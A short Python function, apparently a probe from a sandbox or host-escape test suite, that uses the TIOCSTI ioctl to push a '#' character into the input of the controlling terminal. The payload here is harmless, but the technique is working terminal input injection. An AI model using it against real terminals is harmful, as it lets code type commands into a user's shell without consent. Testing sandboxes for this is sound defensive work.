# category: host
# kind: attack
# Types into the terminal that started it all.
def attack():
    import fcntl, os
    for target in ("/dev/tty", 0, 1, 2):
        try:
            descriptor = os.open(target, os.O_RDWR) if isinstance(target, str) else target
            fcntl.ioctl(descriptor, 0x5412, b"#")
            return True
        except OSError:
            pass
    return False
